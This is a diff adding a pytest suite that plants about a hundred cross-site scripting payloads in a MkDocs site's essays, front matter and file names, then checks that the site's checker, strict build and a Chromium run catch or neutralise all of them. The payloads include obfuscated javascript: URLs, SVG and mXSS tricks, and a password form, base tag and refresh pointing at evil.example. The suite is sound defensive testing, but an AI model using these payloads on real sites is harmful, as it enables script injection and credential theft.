@@ -1,0 +1,419 @@
+"""The payload battery: hostile essays through every gate (the check, a strict build, the built site in Chromium).
+
+Each payload is its own essay (or file name, or folder name) in a copy of the project's docs. All of them
+are built in one strict build and checked in one run of scripts/check.py; the browser part opens every page
+of that one site in one Chromium session. Each payload's script names itself (``PWN17``), so anything that
+runs, or reaches a page in a form that could run, says which payload it was.
+
+Targets (issue 12): 0 payloads execute; 0 reach a page, the search index or errors.json in an executable
+form (scanned with the standard library's HTML parser, not the site's own tokenizer); each is reported by
+the check at its file and line, and each fails the strict build naming its file.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from dataclasses import dataclass
+from html.parser import HTMLParser
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+
+from conftest import ROOT, require_tool
+from dev.devtools import build_site, chromium_path, launch_chromium, serve
+
+JS = "alert('{P}')"  # what every payload runs; {P} becomes its name, PWN<n>
+
+#: Payloads in an essay's body: (Markdown, line of the payload the check must name, counted from its first line).
+BODY: list[tuple[str, int]] = [
+    ("<script>alert('{P}')</script>", 0),
+    ("<SCRIPT SRC=//evil.example/{P}.js></SCRIPT>", 0),
+    ("<img src=x onerror=alert('{P}')>", 0),
+    ("<IMG SRC=x OnError=alert('{P}')>", 0),
+    ("<img src=\"x\"onerror=alert('{P}')>", 0),
+    ("<svg/onload=alert('{P}')>", 0),
+    ("<img alt=\">\" src=x onerror=alert('{P}')>", 0),
+    ("<div>\n<img alt=\">\" src=x onerror=alert('{P}')>", 1),
+    ("<scr<iframe>ipt>alert('{P}')</script>", 0),
+    ("<a title=\"<\" href=\"#x\" onclick=\"alert('{P}')\">x</a>", 0),
+    ("<base href=\"https://evil.example/{P}/\">", 0),
+    ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{P}\">", 0),
+    ("<style>body {{ display: none }} /* {P} */</style>", 0),
+    ("<iframe src=\"javascript:alert('{P}')\"></iframe>", 0),
+    ("<iframe srcdoc=\"<script>alert('{P}')</script>\"></iframe>", 0),
+    ("<object data=\"javascript:alert('{P}')\"></object>", 0),
+    ("<embed src=\"javascript:alert('{P}')\">", 0),
+    ("<a href=\"javascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"&#x6A;avascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"&#106;avascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"&#0000106;avascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"&#x0006A;avascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"java&#9;script:alert('{P}')\">x</a>", 0),
+    ("<a href=\"java&#x0A;script:alert('{P}')\">x</a>", 0),
+    ("<a href=\"java&#10;script:alert('{P}')\">x</a>", 0),
+    ("<a href=\"java&Tab;script:alert('{P}')\">x</a>", 0),
+    ("<a href=\"javas&NewLine;cript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"javascript&colon;alert('{P}')\">x</a>", 0),
+    ("<a href=\"javascript&#58;alert('{P}')\">x</a>", 0),
+    ("<a href=\"&#x01;javascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"\x01javascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"&#x09;javascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"java\nscript:alert('{P}')\">x</a>", 0),
+    ("<a href=\" javascript:alert('{P}')\">x</a>", 0),
+    ("<a href=\"JaVaScRiPt:alert('{P}')\">x</a>", 0),
+    ("<a href=\"&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert('{P}')\">x</a>", 0),
+    ("<a href=\"vbscript:msgbox('{P}')\">x</a>", 0),
+    ("<a href=\"data:text/html,<script>alert('{P}')</script>\">x</a>", 0),
+    ("<form action=\"&#106;avascript:alert('{P}')\"><input type=\"submit\" value=\"go\"></form>", 0),
+    ("<form action=\"javascript:alert('{P}')\"><button>go</button></form>", 0),
+    ("<form><button formaction=\"javascript:alert('{P}')\">go</button></form>", 0),
+    ("<form action=\"https://evil.example/{P}\" method=\"post\"><input name=\"password\"></form>", 0),
+    ("<svg><a><animate attributeName=\"href\" values=\"javascript:alert('{P}')\" /><text x=\"20\" y=\"20\">click</text></a></svg>", 0),
+    ("<svg><a><set attributeName=\"href\" to=\"javascript:alert('{P}')\" /><text x=\"20\" y=\"20\">click</text></a></svg>", 0),
+    ("<svg><a xlink:href=\"javascript:alert('{P}')\"><text x=\"20\" y=\"20\">click</text></a></svg>", 0),
+    ("<svg><script>alert('{P}')</script></svg>", 0),
+    ("<svg><animate onbegin=\"alert('{P}')\" attributeName=\"x\" dur=\"1s\" /></svg>", 0),
+    ("<math><mtext><table><mglyph><style><img src=x onerror=alert('{P}')>", 0),
+    ("<svg><style><img src=x onerror=alert('{P}')></style></svg>", 0),
+    ("<svg><foreignObject><iframe srcdoc=\"<script>alert('{P}')</script>\"></iframe></foreignObject></svg>", 0),
+    ("<details open ontoggle=\"alert('{P}')\"><summary>x</summary></details>", 0),
+    ("<input autofocus onfocus=\"alert('{P}')\">", 0),
+    ("<body onload=\"alert('{P}')\">", 0),
+    ("<video><source onerror=\"alert('{P}')\"></video>", 0),
+    ("<audio src=\"x\" onerror=\"alert('{P}')\"></audio>", 0),
+    ("<marquee onstart=\"alert('{P}')\">x</marquee>", 0),
+    ("<link rel=\"stylesheet\" href=\"https://evil.example/{P}.css\">", 0),
+    ("<noscript><p title=\"</noscript><img src=x onerror=alert('{P}')>\"></p></noscript>", 0),
+    ("<template><script>alert('{P}')</script></template>", 0),
+    ("<div style=\"background: url(javascript:alert('{P}'))\">x</div>", 0),
+    ("<div id=\"__config\">{{\"base\": \"https://evil.example/{P}/\"}}</div>", 0),
+    ("<a href=\"#top\" onmouseover=\"alert('{P}')\">hover</a>", 0),
+    ("<!--><img src=x onerror=alert('{P}')>-->", 0),
+    ("<textarea><img src=x onerror=alert('{P}')></textarea>", 0),
+    ("<img src=\"x\"\nonerror=\"alert('{P}')\">", 0),
+    ("<object data=\"data:text/html,<script>alert('{P}')</script>\"></object>", 0),
+    ("<isindex type=\"image\" src=\"1\" onerror=\"alert('{P}')\">", 0),
+    ("<img src=\"x:alert(alt)\" onerror=\"eval(src)\" alt=\"{P}\">", 0),
+    ("<frameset onload=\"alert('{P}')\"></frameset>", 0),
+    ("<img srcset=\"x\" onerror=\"alert('{P}')\">", 0),
+    ("<a href=\"https://example.org/\" target=\"_blank\" onclick=\"alert('{P}')\">x</a>", 0),
+    # Markdown's own links, attribute lists and blocks
+    ("[x](javascript:alert('{P}'))", 0),
+    ("[x](JaVaScRiPt:alert('{P}'))", 0),
+    ("[x](java&#9;script:alert('{P}'))", 0),
+    ("[x](<javascript:alert('{P}')>)", 0),
+    ("![x](javascript:alert('{P}'))", 0),
+    ("[x][r]\n\n[r]: javascript:alert('{P}')", 2),
+    ("<javascript:alert('{P}')>", 0),
+    ("[x](data:text/html,<script>alert('{P}')</script>)", 0),
+    ("[x](vbscript:msgbox('{P}'))", 0),
+    ("[x](https://example.org){{ onclick=\"alert('{P}')\" }}", 0),
+    ("[x](https://example.org){{ href=\"javascript:alert('{P}')\" }}", 0),
+    ("段落\n{{: onclick=\"alert('{P}')\" }}", 1),
+    ("## 标题 {{ onclick=\"alert('{P}')\" }}", 0),
+    ("## <img src=x onerror=alert('{P}')>", 0),
+    ("脚注[^1]\n\n[^1]: <img src=x onerror=alert('{P}')>", 2),
+    ("!!! note \"<img src=x onerror=alert('{P}')>\"\n    x", 0),
+    ("=== \"<img src=x onerror=alert('{P}')>\"\n    x", 0),
+    ("*[HTML]: <img src=x onerror=alert('{P}')>\n\nHTML", 0),
+    ("| a |\n|---|\n| <img src=x onerror=alert('{P}')> |", 2),
+    ("<div markdown>\n<img src=x onerror=alert('{P}')>\n</div>", 1),
+    ("??? note \"x\"\n    <script>alert('{P}')</script>", 1),
+    ("- `KeyError: 'e'`\n\n  - 解决方案：\n    <img src=x onerror=alert('{P}')>", 3),
+    ("- `KeyError: 'f'`\n\n  - 解决方案：\n    <div>\n    <img alt=\">\" src=x onerror=alert('{P}')>", 4),
+    # an entry message that held a double backtick closed the card's code span
+    ("- ``` a `` <img alt=\">\" src=x onerror=alert('{P}')> ```\n\n  - 解决方案：\n    x", 0),
+    ("- `<script>alert('{P}')</script>`\n\n  - 解决方案：\n    x", 0),
+    ("## `` b`<svg onload=alert('{P}')>` ``\n\n### 解决方案\n\nx", 0),
+]
+
+#: Payloads in the front matter: (key, YAML value). The check must name the key's line.
+FRONT: list[tuple[str, str]] = [
+    ("title", json.dumps("<img src=x onerror=alert('{P}')>")),
+    ("title", json.dumps("</title><script>alert('{P}')</script>")),
+    ("description", json.dumps("\"><script>alert('{P}')</script>")),
+    ("subtitle", json.dumps("<img src=x onerror=alert('{P}')>")),
+    ("status", json.dumps("x\" onmouseover=\"alert('{P}')")),
+    ("tags", "[" + json.dumps("<img src=x onerror=alert('{P}')>") + "]"),
+    ("categories", "[" + json.dumps("<img src=x onerror=alert('{P}')>") + "]"),
+    ("author", json.dumps("\"><img src=x onerror=alert('{P}')>")),
+    ("authors", "[{name: " + json.dumps("<img src=x onerror=alert('{P}')>") + ", link: " + json.dumps("javascript:alert('{P}')") + "}]"),
+]
+
+#: Payloads in file and folder names: (path under docs/, with a title in its front matter or not).
+NAMES: list[tuple[str, bool]] = [
+    ("payloads/01.<img src=x onerror=alert('{P}')>.md", False),
+    ("payloads/<svg onload=alert('{P}')>.md", True),
+    ("05.<img src=x onerror=alert('{P}')>/01.a.md", True),
+]
+
+FIRST_BODY_LINE = 8  # the body payload's first line in its essay (see essay())
+
+
+@dataclass(frozen=True)
+class Payload:
+    name: str  # PWN<n>
+    path: str  # under docs/
+    line: int  # what the check must report
+    text: str
+
+
+def essay(name: str, body: str = "", front: str = "", title: bool = True) -> str:
+    title_line = f"title: 载荷 {name}\n" if title else ""
+    return f"---\n{title_line}{front}---\n# 载荷 {name}\n\n这一篇测试载荷 {name}。\n\n{body}\n"
+
+
+def payloads() -> list[Payload]:
+    found = []
+    for n, (body, offset) in enumerate(BODY):
+        name = f"PWN{len(found)}"
+        found.append(Payload(name, f"payloads/b{n:03d}.md", FIRST_BODY_LINE + offset, essay(name, body.replace("{P}", name).replace("{{", "{").replace("}}", "}"))))
+    for n, (key, value) in enumerate(FRONT):
+        name = f"PWN{len(found)}"
+        value = value.replace("{P}", name)
+        if key == "title":
+            text = f"---\ntitle: {value}\n---\n# 载荷\n\n正文。\n"
+            found.append(Payload(name, f"payloads/f{n:03d}.md", 2, text))
+        else:
+            found.append(Payload(name, f"payloads/f{n:03d}.md", 3, essay(name, front=f"{key}: {value}\n")))
+    for path, titled in NAMES:
+        name = f"PWN{len(found)}"
+        found.append(Payload(name, path.replace("{P}", name), 1, essay(name, "正文。", title=titled)))
+    return found
+
+
+PAYLOADS = payloads()
+
+
+def test_the_battery_has_every_class_of_the_audit():
+    assert len(PAYLOADS) >= 93
+    assert len({p.path for p in PAYLOADS}) == len(PAYLOADS)
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory) -> Path:
+    """A copy of the project's docs with every payload added; returns the copy's parent (docs/ inside)."""
+    root = tmp_path_factory.mktemp("payloads")
+    docs = root / "docs"
+    shutil.copytree(ROOT / "docs", docs)
+    for payload in PAYLOADS:
+        target = docs / payload.path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(payload.text, encoding="utf-8")
+    return root
+
+
+@pytest.fixture(scope="module")
+def checked(hostile) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, str(ROOT / "scripts" / "check.py"), "docs", "--tags", str(ROOT / "tags.yml")],
+        capture_output=True, text=True, cwd=hostile, env={**os.environ, "GITHUB_ACTIONS": ""}, timeout=600,
+    )
+
+
+@pytest.fixture(scope="module")
+def built(hostile) -> tuple[subprocess.CompletedProcess, Path]:
+    """One strict build of all payloads (MkDocs writes the whole site, then fails on the warnings)."""
+    site = hostile / "site"
+    return build_site(site, docs_dir=hostile / "docs"), site
+
+
+_REPORTED = re.compile(r"^(?P<path>.+?):(?P<line>\d+): ")
+
+
+def test_the_check_reports_every_payload_at_its_file_and_line(checked):
+    assert checked.returncode == 1
+    reported = {(m.group("path"), int(m.group("line"))) for m in map(_REPORTED.match, checked.stdout.splitlines()) if m}
+    missed = [(p.name, p.path, p.line) for p in PAYLOADS if (f"docs/{p.path}", p.line) not in reported]
+    assert missed == [], "\n".join(line for line in checked.stdout.splitlines() if "payloads/" in line or "05." in line)
+    assert "Traceback" not in checked.stderr + checked.stdout
+
+
+def test_the_strict_build_fails_naming_every_payload_file(built):
+    result, _ = built
+    assert result.returncode != 0
+    assert "Traceback" not in result.stderr
+    warnings = [line for line in result.stderr.splitlines() if line.startswith("WARNING")]
+    missed = [p.name for p in PAYLOADS if not any(p.path in line for line in warnings)]
+    assert missed == []
+
+
+# -- what reached the pages --------------------------------------------------------------------------
+
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "values", "to", "from", "background", "poster", "srcset", "content"}
+ACTIVE_ELEMENTS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "base", "meta", "link", "form", "button", "animate", "set", "animatemotion", "animatetransform", "foreignobject", "use", "template", "noscript", "math", "marquee", "isindex", "audio", "video", "source"}
+_CONTROL = re.compile(r"[\x00-\x20\x7f]+")
+
+
+class _Scanner(HTMLParser):
+    """Executable forms in a built page, by the standard library's parser (independent of the site's code)."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+        self._active: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        text = " ".join(f"{k}={v}" for k, v in attrs)
+        for name, value in attrs:
+            value = value or ""
+            if name.startswith("on"):
+                self.found.append(f"<{tag} {name}={value[:60]}>")
+            scheme = re.match(r"([a-z][a-z0-9+.\-]*):", _CONTROL.sub("", value).lower())
+            if name in URL_ATTRIBUTES and scheme and scheme.group(1) not in ("http", "https", "mailto") and not (tag == "meta" and name == "content"):
+                if value != "javascript:void(0)":  # Material's own search-share button
+                    self.found.append(f"<{tag} {name}={value[:60]}>")
+            if name in ("id", "name") and value in ("__config", "__pwned") and tag != "script":
+                self.found.append(f"<{tag} {name}={value}>")
+        rel = dict(attrs).get("rel") or ""
+        if tag == "link" and rel in ("canonical", "prev", "next", "alternate"):
+            pass  # the theme's links between pages (a hostile name in them is percent-encoded)
+        elif tag == "meta":
+            pass  # a meta's content is a string (description, author): only a refresh acts, above
+        elif tag in ACTIVE_ELEMENTS and "PWN" in text:
+            self.found.append(f"<{tag} {text[:60]}>")
+        refresh = dict(attrs).get("content") or ""
+        if tag == "meta" and "http-equiv" in dict(attrs) and ("PWN" in refresh or re.search(r"url\s*=\s*['\"]?\s*[a-z][a-z0-9+.\-]*:", refresh, re.I)):
+            self.found.append(f"<meta {text[:60]}>")  # a refresh to another site (the redirects' own pages point inside)
+        if tag in ACTIVE_ELEMENTS:
+            self._active.append(tag)
+
+    handle_startendtag = handle_starttag
+
+    def handle_endtag(self, tag):
+        if self._active and self._active[-1] == tag:
+            self._active.pop()
+
+    def handle_data(self, data):
+        if self._active and self._active[-1] in ("script", "style") and "PWN" in data:
+            self.found.append(f"<{self._active[-1]}>{data[:60]}")
+
+
+def executable_forms(html: str) -> list[str]:
+    scanner = _Scanner()
+    scanner.feed(html)
+    scanner.close()
+    return scanner.found
+
+
+def test_the_scanner_sees_what_it_looks_for():
+    assert executable_forms("<img src=x onerror=alert('PWN1')><a href='java&#9;script:x'>")  # not a vacuous scan
+    assert executable_forms("<script>alert('PWN2')</script><style>/*PWN3*/</style>")
+    assert executable_forms('<p>alert(&#39;PWN4&#39;)</p><code>&lt;script&gt;</code><a href="../x/">x</a>') == []
+
+
+def test_no_payload_reaches_any_page_in_an_executable_form(built):
+    _, site = built
+    pages = sorted(site.rglob("*.html"))
+    assert len(pages) > len(PAYLOADS)
+    found = {str(page.relative_to(site)): executable_forms(page.read_text(encoding="utf-8")) for page in pages}
+    assert {page: forms for page, forms in found.items() if forms} == {}
+
+
+def test_no_payload_reaches_the_search_index_or_errors_json_in_an_executable_form(built):
+    _, site = built
+    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
+    # Material's search shows titles and text as HTML: they must hold nothing that runs.
+    found = [forms for doc in index["docs"] for forms in [executable_forms(doc["title"]) + executable_forms(doc["text"])] if forms]
+    assert found == []
+    records = json.loads((site / "errors.json").read_text(encoding="utf-8"))["entries"]
+    assert any("PWN" in record["message"] for record in records)  # the hostile messages are there, as data
+
+
+# -- the browser -------------------------------------------------------------------------------------
+
+#: Every payload calls alert(): the canary counts the calls (in frames too), the dialog handler sees the dialogs.
+CANARY = """window.__pwned = window.__pwned || [];
+const realAlert = window.alert;
+window.alert = function (message) { window.__pwned.push(String(message)); return realAlert.call(window, message); };"""
+#: Clicks every link and submits every form of the page's content; a link or form whose URL is http(s) or
+#: mailto is stopped before it navigates (those cannot run script here); anything else runs as it would.
+CLICK_EVERYTHING = """() => {
+  const safe = (value) => { try { return ["http:", "https:", "mailto:"].includes(new URL(value, location.href).protocol); } catch (e) { return true; } };
+  const target = (el) => el.getAttribute("href") || el.getAttributeNS("http://www.w3.org/1999/xlink", "href") || (el.href && el.href.animVal) || "";
+  let clicked = 0;
+  for (const link of document.querySelectorAll("article a, article [href]")) {
+    link.addEventListener("click", (event) => { if (safe(target(link))) event.preventDefault(); });
+    link.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
+    link.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
+    clicked++;
+  }
+  for (const form of document.querySelectorAll("article form:not(#errata-lookup)")) {
+    form.addEventListener("submit", (event) => { if (safe(form.action)) event.preventDefault(); });
+    try { form.requestSubmit(); } catch (e) {}
+    clicked++;
+  }
+  for (const element of document.querySelectorAll("article details, article input")) { element.focus && element.focus(); }
+  return clicked;
+}"""
+
+
+@pytest.fixture(scope="module")
+def browser():
+    require_tool(chromium_path() is not None, "Chromium (/usr/bin/chromium)")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = launch_chromium(playwright)
+        yield browser
+        browser.close()
+
+
+def _site_urls(site: Path, base: str) -> list[str]:
+    urls = []
+    for page in sorted(site.rglob("index.html")):
+        folder = page.relative_to(site).parent.as_posix()
+        urls.append(base if folder == "." else base + quote(folder) + "/")
+    return urls
+
+
+@pytest.mark.browser
+def test_no_payload_runs_in_chromium(built, browser):
+    _, site = built
+    ran: list[str] = []
+    outside: list[str] = []
+    with serve(site) as base:
+        context = browser.new_context()
+        context.add_init_script(CANARY)
+        # Nothing a payload names may load: a <base>, a refresh or a stylesheet from elsewhere is a failure.
+        context.route("**/*", lambda route: (outside.append(route.request.url), route.abort()) if not route.request.url.startswith(base) else route.continue_())
+        page = context.new_page()
+        page.on("dialog", lambda dialog: (ran.append(f"dialog {dialog.message} on {page.url}"), dialog.dismiss()))
+        urls = _site_urls(site, base)
+        assert len(urls) > len(PAYLOADS)
+        for url in urls:
+            page.goto(url, wait_until="load")
+            page.wait_for_timeout(100)  # SVG animations begin, autofocus fires
+            page.evaluate(CLICK_EVERYTHING)
+            page.wait_for_timeout(50)
+            if not page.url.startswith(base):
+                ran.append(f"navigated from {url} to {page.url}")
+                continue
+            canary = page.evaluate("window.__pwned")
+            if canary:
+                ran.append(f"canary {canary} on {url}")
+        # The search box and the lookup page show entries: their messages are hostile here.
+        page.goto(base, wait_until="load")
+        page.locator(".md-search__input").fill("PWN")
+        page.wait_for_timeout(1500)
+        page.goto(base + "lookup/", wait_until="load")
+        records = json.loads((site / "errors.json").read_text(encoding="utf-8"))["entries"]
+        for record in records:
+            if "PWN" in record["message"]:
+                page.fill("#errata-lookup textarea", record["message"])
+                page.click("#errata-lookup button")
+                page.wait_for_timeout(100)
+                assert page.locator("#errata-lookup-results").inner_text()  # the hostile entry was found and shown
+        page.goto(base + "errors/", wait_until="load")
+        page.fill(".errata-filter-input", "PWN")
+        page.wait_for_timeout(300)
+        canary = page.evaluate("window.__pwned")
+        context.close()
+    assert ran == [] and not canary
+    assert [url for url in outside if "PWN" in url or "evil.example" in url] == []  # (the theme's web fonts may load)
